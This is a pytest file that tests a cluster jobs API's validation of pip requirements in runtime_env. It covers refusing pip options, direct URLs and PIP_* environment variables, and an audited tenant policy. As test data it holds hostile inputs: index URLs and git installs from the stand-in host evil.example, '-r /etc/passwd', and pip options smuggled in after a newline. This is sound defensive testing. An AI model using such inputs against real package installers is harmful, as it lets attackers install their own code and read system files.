"""runtime_env.pip through the jobs API: a hostile entry is a 400 naming it and writes
nothing; the tenant policy ``allow_pip_direct_urls`` (set by the tenant's admins or a
platform admin, audited) lets ``name @ https://...`` through, never a pip option."""

from __future__ import annotations

from typing import Any

import pytest

from clusters.kinds.rayjob.pip_requirements import DIRECT_URL, NOT_A_REQUIREMENT, PIP_OPTION
from clusters.models import ClusterRequest, Job
from tenants.models import AuditEvent, Tenant

JOBS = "/api/v1/tenants/acme/jobs/"
DRY_RUN = JOBS + "dry-run/"
POLICY = "/api/v1/tenants/acme/policy/"
TRAIN = {"entrypoint": "python train.py", "flavor": "h100", "workers": 2}
WHEEL = "evil @ https://evil.example/e.whl"


@pytest.mark.parametrize(
    ("pip", "why"),
    [
        (["torch --index-url https://evil.example/simple"], PIP_OPTION),
        (["torch", "--extra-index-url=https://evil.example/simple"], PIP_OPTION),
        (["-r /etc/passwd"], PIP_OPTION),
        (["-e git+https://evil.example/x.git#egg=x"], PIP_OPTION),
        (["torch --trusted-host evil.example"], PIP_OPTION),
        ({"packages": ["--pre"]}, PIP_OPTION),
        ([WHEEL], DIRECT_URL),
        (["evil @ file:///tmp/evil.whl"], DIRECT_URL),
        (["https://evil.example/e.whl"], NOT_A_REQUIREMENT),
        (["torch\n--index-url https://evil.example/simple"], PIP_OPTION),
        (["torch\revil"], NOT_A_REQUIREMENT),
        (["torch\nevil"], NOT_A_REQUIREMENT),
        (["torch # comment"], NOT_A_REQUIREMENT),
        ({"packages": ["torch"], "pip_install_options": ["--index-url=x"]}, "pip_install_options"),
    ],
)
def test_a_hostile_pip_entry_is_a_400_naming_it_and_writes_nothing(
    as_user: Any, bob: Any, pip: Any, why: str
) -> None:
    body = {**TRAIN, "runtime_env": {"pip": pip}}
    for url in (JOBS, DRY_RUN):
        response = as_user(bob).post(url, body, format="json")
        assert response.status_code == 400, (url, response.content)
        fields = response.json()["error"]["fields"]
        assert list(fields) == ["runtime_env.pip"], fields
        (fault,) = fields["runtime_env.pip"]
        assert why in fault, fault
    assert not ClusterRequest.objects.exists() and not Job.objects.exists()
    assert not AuditEvent.objects.exists()


def test_a_tenant_admin_allows_direct_urls_and_pip_options_stay_refused(
    as_user: Any, alice: Any, bob: Any
) -> None:
    refused = as_user(bob).post(JOBS, {**TRAIN, "runtime_env": {"pip": [WHEEL]}}, format="json")
    assert refused.status_code == 400
    assert as_user(bob).patch(POLICY, {"allow_pip_direct_urls": True}).status_code == 403
    # Room for bob's second job, so that only its runtime_env can refuse it.
    changes = {"allow_pip_direct_urls": True, "max_dev_gpus_per_user": 8}
    changed = as_user(alice).patch(POLICY, changes, format="json")
    assert changed.status_code == 200 and changed.json()["allow_pip_direct_urls"] is True
    event = AuditEvent.objects.get(action="tenant.policy")
    assert event.data["before"]["allow_pip_direct_urls"] is False
    assert event.data["after"]["allow_pip_direct_urls"] is True

    pip = [WHEEL, "torch>=2.3,<3"]
    accepted = as_user(bob).post(JOBS, {**TRAIN, "runtime_env": {"pip": pip}}, format="json")
    assert accepted.status_code == 201, accepted.content
    assert Job.objects.get().runtime_env == {"pip": pip}

    for entry in (
        f"{WHEEL} --index-url https://evil.example/simple",
        "torch --index-url https://evil.example/simple",
        "evil @ git+https://evil.example/evil.git",
    ):
        body = {**TRAIN, "runtime_env": {"pip": [entry]}}
        response = as_user(bob).post(JOBS, body, format="json")
        assert response.status_code == 400, (entry, response.content)
        assert entry in response.json()["error"]["fields"]["runtime_env.pip"][0]
    assert Job.objects.count() == 1


def test_a_platform_admin_sets_it_in_the_tenants_policy(as_user: Any, root: Any, acme: Any) -> None:
    body = {"policy": {"allow_pip_direct_urls": True}}
    response = as_user(root).patch("/api/v1/tenants/acme/", body, format="json")
    assert response.status_code == 200, response.content
    assert response.json()["policy"]["allow_pip_direct_urls"] is True
    assert Tenant.objects.get(pk=acme.pk).allow_pip_direct_urls is True
    assert AuditEvent.objects.filter(tenant_slug="acme").exists()
    not_bool = as_user(root).patch(
        "/api/v1/tenants/acme/", {"policy": {"allow_pip_direct_urls": "sometimes"}}, format="json"
    )
    assert not_bool.status_code == 400
    assert "policy.allow_pip_direct_urls" in str(not_bool.json()["error"]["fields"])


def test_pip_settings_cannot_come_in_through_environment_variables(as_user: Any, bob: Any) -> None:
    """The package index stays the platform's: PIP_* variables are pip options too."""
    body = {
        **TRAIN,
        "runtime_env": {
            "pip": ["torch"],
            "env_vars": {"PIP_INDEX_URL": "https://evil.example/simple"},
        },
    }
    response = as_user(bob).post(JOBS, body, format="json")
    assert response.status_code == 400
    (fault,) = response.json()["error"]["fields"]["runtime_env.env_vars"]
    assert fault.startswith("PIP_INDEX_URL") and "package index" in fault
    cluster = {"kind": "dev", "flavor": "h100", "workers": 1}
    env = {"PIP_EXTRA_INDEX_URL": "https://evil.example/simple"}
    refused = as_user(bob).post(
        "/api/v1/tenants/acme/clusters/", {**cluster, "env": env}, format="json"
    )
    assert refused.status_code == 400, refused.content
    assert "PIP_EXTRA_INDEX_URL" in str(refused.json()["error"]["fields"])
    assert not ClusterRequest.objects.exists() and not Job.objects.exists()
